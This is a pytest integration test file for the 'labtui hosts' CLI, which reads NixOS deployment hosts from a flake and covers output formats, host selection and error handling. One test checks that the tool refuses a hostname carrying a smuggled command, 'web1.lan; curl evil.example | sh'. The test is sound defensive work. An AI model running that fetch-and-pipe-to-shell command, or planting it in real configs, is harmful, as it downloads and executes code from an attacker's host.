"""`labtui hosts` through the real CLI entry point: table, JSON with sources, selection, errors."""

from __future__ import annotations

import json

import pytest

from labtui.cli.main import main

pytestmark = pytest.mark.integration


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


def test_zero_configuration_table_fits_80_columns(nix, flake_copy, monkeypatch, capsys) -> None:
    monkeypatch.chdir(flake_copy("fleet"))
    code, out, err = run(capsys, "hosts")
    assert code == 0
    lines = out.splitlines()
    assert lines[0].split() == ["NAME", "HOSTNAME", "METHOD", "PROFILES", "TAGS"]
    assert any(line.split()[:3] == ["web1", "web1.lan", "deploy-rs"] for line in lines)
    assert any(line.split()[:3] == ["legacy", "legacy", "nixos-rebuild"] for line in lines)
    assert all(len(line) <= 80 for line in lines)
    assert "sshUsr" in err  # the warning about a key deploy-rs ignores


def test_json_names_the_source_of_every_value(nix, flake_copy, capsys) -> None:
    flake = flake_copy("fleet")
    (flake / "labtui.toml").write_text('[hosts.web1]\ntags = ["prod"]\ncritical = true\n')
    code, out, _ = run(capsys, "--flake", str(flake), "hosts", "--json", "web1")
    assert code == 0
    data = json.loads(out)
    assert data["config"] == str(flake / "labtui.toml")
    (host,) = data["hosts"]
    assert host["hostname"] == {"value": "web1.lan", "source": "node"}
    assert host["tags"] == {"value": ["prod"], "source": "labtui.toml"}
    assert host["critical"] == {"value": True, "source": "labtui.toml"}
    assert host["method"] == {"value": "deploy-rs", "source": "default"}
    system = host["profiles"][0]
    assert system["name"] == "system"
    assert system["settings"]["user"] == {"value": "root", "source": "profile"}
    assert system["settings"]["confirm_timeout"] == {"value": 60, "source": "deploy"}
    assert system["settings"]["ssh_opts"]["item_sources"] == ["profile", "profile", "node", "deploy", "deploy"]
    assert host["ssh"]["port"] == {"value": 2222, "source": "ssh-opts"}


def test_selection_by_tag_and_glob(nix, flake_copy, capsys) -> None:
    flake = flake_copy("fleet")
    (flake / "labtui.toml").write_text('[hosts.db1]\ntags = ["prod"]\n[hosts.web1]\ntags = ["prod"]\n')
    code, out, _ = run(capsys, "--flake", str(flake), "hosts", "@prod", "--json")
    assert [h["name"] for h in json.loads(out)["hosts"]] == ["db1", "web1"]
    code, out, _ = run(capsys, "--flake", str(flake), "hosts", "w*", "--json")
    assert [h["name"] for h in json.loads(out)["hosts"]] == ["web1"]


def test_unknown_host_suggests_the_nearest(nix, flake_copy, capsys) -> None:
    code, _, err = run(capsys, "--flake", str(flake_copy("fleet")), "hosts", "web2")
    assert code == 2 and "did you mean `web1`?" in err


@pytest.mark.parametrize("fixture, expected", [
    ("syntax-error", "syntax error"),
    ("throws", "hostname of web1 is not configured yet"),
    ("empty", "neither `deploy.nodes`, a Colmena hive"),
])
def test_broken_flakes_exit_2_without_traceback(nix, flake_copy, capsys, fixture, expected) -> None:
    code, out, err = run(capsys, "--flake", str(flake_copy(fixture)), "hosts")
    assert code == 2 and out == ""
    assert err.startswith("labtui: error: ") and expected in err


def test_directory_without_flake_nix(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run(capsys, "hosts")
    assert code == 2
    assert f"no flake.nix in {tmp_path}; run labtui inside your flake directory or pass --flake REF" in err


def test_fragment_in_flake_ref_is_refused(tmp_path, capsys) -> None:
    code, _, err = run(capsys, "--flake", ".#web1", "hosts")
    assert code == 2 and "without `#`" in err


def test_nix_missing_exit_2(flake_copy, monkeypatch, capsys) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    code, _, err = run(capsys, "--flake", str(flake_copy("fleet")), "hosts")
    assert code == 2 and "`nix` was not found on PATH" in err and "apt-get install nix-bin" in err


def test_bad_config_exit_2(nix, flake_copy, capsys) -> None:
    flake = flake_copy("fleet")
    (flake / "labtui.toml").write_text('[hosts.web1]\ntagz = ["x"]\n')
    code, _, err = run(capsys, "--flake", str(flake), "hosts")
    assert code == 2
    assert f"unknown key `tagz` in [hosts.web1] of {flake / 'labtui.toml'} line 2; did you mean `tags`?" in err


def test_subprocess_has_no_traceback(nix, flake_copy) -> None:
    import subprocess
    import sys

    proc = subprocess.run([sys.executable, "-m", "labtui", "--flake", str(flake_copy("syntax-error")), "hosts"],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr and "syntax error" in proc.stderr


def test_injected_hostname_is_refused(nix, flake_copy, capsys) -> None:
    code, out, err = run(capsys, "--flake", str(flake_copy("injection")), "hosts")
    assert code == 2 and out == ""
    assert "refusing host name 'web1.lan; curl evil.example | sh' (deploy.nodes.web1.hostname)" in err
    assert "contains a space" in err


def test_toml_syntax_error_exit_2(nix, flake_copy, capsys) -> None:
    flake = flake_copy("fleet")
    (flake / "labtui.toml").write_text('[hosts.web1]\ntags = ["prod"]]\n')
    code, _, err = run(capsys, "--flake", str(flake), "hosts")
    assert code == 2
    assert f"TOML syntax error in {flake / 'labtui.toml'} line 2, column 16: " in err
    (flake / "labtui.toml").write_text('[hosts.web1]\ntags = ["prod"\n')
    code, _, err = run(capsys, "--flake", str(flake), "hosts")
    assert code == 2 and "at the end of the file (line 3): Unclosed array" in err


def test_explicit_config_and_user_config(nix, flake_copy, tmp_path, capsys) -> None:
    import os
    from pathlib import Path

    flake = flake_copy("fleet")
    user = Path(os.environ["XDG_CONFIG_HOME"]) / "labtui" / "config.toml"
    user.parent.mkdir(parents=True)
    user.write_text('[hosts.db1]\ntags = ["from-user-config"]\n')
    code, out, _ = run(capsys, "--flake", str(flake), "hosts", "db1")
    assert code == 0 and "from-user-config" in out
    other = tmp_path / "other.toml"
    other.write_text('[hosts.db1]\ntags = ["explicit"]\n')
    code, out, _ = run(capsys, "--flake", str(flake), "--config", str(other), "hosts", "db1")
    assert code == 0 and "explicit" in out
    code, _, err = run(capsys, "--flake", str(flake), "--config", str(tmp_path / "nope.toml"), "hosts")
    assert code == 2 and "does not exist" in err


def test_deploy_rs_targets_select_the_flake_and_hosts(nix, flake_copy, monkeypatch, capsys) -> None:
    """`labtui hosts ./fleet#web1.system .#"example.com"`-style targets: the flake part picks the flake."""
    flake = flake_copy("fleet")
    monkeypatch.chdir(flake.parent)
    code, out, err = run(capsys, "hosts", "./fleet#web1.system", "--targets", './fleet#"example.com"')
    assert code == 0, err
    assert [line.split()[0] for line in out.splitlines()[1:]] == ["web1", "example.com"]
    code, _, err = run(capsys, "hosts", "./fleet#web9")
    assert code == 2 and "`./fleet#web9`: no host named `web9` in ./fleet; did you mean `web1`?" in err
    code, _, err = run(capsys, "--flake", str(flake), "hosts", "./elsewhere#web1")
    assert code == 2 and "flake directory" in err and "does not exist" in err
